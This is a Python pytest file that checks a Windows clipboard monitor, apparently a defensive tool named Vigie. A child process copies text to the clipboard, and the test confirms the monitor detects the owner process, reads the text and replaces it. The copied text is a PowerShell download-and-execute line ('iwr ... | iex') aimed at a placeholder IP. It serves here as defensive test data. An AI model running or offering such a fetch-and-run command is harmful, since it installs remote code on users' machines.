"""The Windows clipboard's real user32 calls (Wine or Windows): a second process copies a
command with its own window, the sequence number tells, GetClipboardOwner gives that
process, the text is read and replaced, and Vigie's own write is no change.

Runs only with a Windows Python (the Wine lane, scripts/wine-lane.sh); skipped elsewhere.
"""
import subprocess
import sys

import pytest

if sys.platform != "win32":
    pytest.skip("Windows-only (the Wine lane runs it)", allow_module_level=True)

from agent.platform.clipboard import PollingClipboard  # noqa: E402
from agent.platform.clipboard_win import Win32ClipboardApi  # noqa: E402

COPIER = r'''
import ctypes, time
from ctypes import wintypes as w
u, k = ctypes.WinDLL("user32"), ctypes.WinDLL("kernel32")
u.CreateWindowExW.restype = w.HWND
u.CreateWindowExW.argtypes = [w.DWORD, w.LPCWSTR, w.LPCWSTR, w.DWORD, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                              ctypes.c_int, w.HWND, w.HMENU, w.HINSTANCE, w.LPVOID]
hwnd = u.CreateWindowExW(0, "STATIC", "copier", 0, 0, 0, 10, 10, None, None, None, None)
u.OpenClipboard.argtypes = [w.HWND]
k.GlobalAlloc.restype, k.GlobalAlloc.argtypes = w.HGLOBAL, [w.UINT, ctypes.c_size_t]
k.GlobalLock.restype, k.GlobalLock.argtypes = ctypes.c_void_p, [w.HGLOBAL]
k.GlobalUnlock.argtypes = [w.HGLOBAL]
u.SetClipboardData.argtypes, u.SetClipboardData.restype = [w.UINT, w.HANDLE], w.HANDLE
text = ctypes.create_unicode_buffer("iwr http://192.0.2.1/a | iex")
h = k.GlobalAlloc(2, ctypes.sizeof(text))
ctypes.memmove(k.GlobalLock(h), text, ctypes.sizeof(text))
k.GlobalUnlock(h)
assert u.OpenClipboard(hwnd)
u.EmptyClipboard()
u.SetClipboardData(13, h)
u.CloseClipboard()
print("copied", flush=True)
time.sleep(60)
'''


def test_sequence_owner_read_and_replace():
    api = Win32ClipboardApi()
    clip = PollingClipboard(api)
    child = subprocess.Popen([sys.executable, "-c", COPIER], stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout.readline().strip() == "copied"
        change = clip.wait(10)
        assert change is not None and change.owner_pid == child.pid and change.owner_window
        assert clip.read_text(change) == "iwr http://192.0.2.1/a | iex"
        assert clip.replace("Vigie removed it") and api.read_text() == "Vigie removed it"
        assert clip.wait(0.6) is None
    finally:
        child.kill()
